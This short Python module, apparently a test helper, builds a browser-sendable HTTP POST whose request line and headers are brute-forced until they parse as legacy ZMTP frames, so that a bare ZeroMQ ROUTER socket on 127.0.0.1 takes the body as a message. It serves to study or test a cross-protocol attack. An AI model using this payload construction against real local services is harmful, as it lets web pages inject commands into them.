"""An HTTP POST, as any web page can make a browser send it, that a bare ROUTER takes for a message of its own."""

from __future__ import annotations

from itertools import product


def post(frames: list[bytes]) -> bytes:
    """A POST whose text headers happen to be frames of the oldest ZMTP, so that the body is read as a message."""
    body = b"".join(_frame(part, more=number + 1 < len(frames)) for number, part in enumerate(frames))
    for length, filler in product(range(60, 400), b"abcdefghijklmnopqrstuvwxyz"):
        path = b"/" + bytes([filler]) * length
        head = b"POST " + path + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: text/plain\r\n"
        head += b"Content-Length: %d\r\n\r\n" % len(body)
        if _ends_a_message(head):
            return head + body
    raise AssertionError("no such POST was found")


def _frame(part: bytes, *, more: bool) -> bytes:
    return bytes([len(part) + 1, int(more)]) + part


def _ends_a_message(head: bytes) -> bool:
    """True when the frames in `head` end exactly where it ends, the last one without `more`."""
    start = last = 0
    while start < len(head):
        last = start
        start += 1 + head[start]
    return start == len(head) and last > 0 and not head[last + 1] & 1
